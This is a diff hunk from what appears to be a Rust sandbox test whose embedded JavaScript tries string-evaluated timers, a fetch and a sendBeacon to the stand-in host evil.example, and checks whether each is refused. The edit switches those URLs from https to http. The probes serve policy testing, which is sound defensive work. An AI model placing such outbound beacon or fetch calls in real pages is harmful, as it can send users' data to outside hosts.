@@ -42,8 +42,8 @@ const BREAK: &str = "
         attempt('timeout', () => setTimeout('window.__broken = \"a timeout\"', 0));
         go();
     }, 0));
-    const asked = fetch('https://evil.example/').then(() => 'went through', (error) => error.name);
-    navigator.sendBeacon?.('https://evil.example/', 'x');
+    const asked = fetch('http://evil.example/').then(() => 'went through', (error) => error.name);
+    navigator.sendBeacon?.('http://evil.example/', 'x');
     Promise.all([asked, later]).then(([fetched]) => setTimeout(() => done({
         refused: [...refused].sort(), tried, fetched, broken: window.__broken ?? null, shown: getComputedStyle(document.body).display,
         base: document.baseURI.startsWith(location.origin),
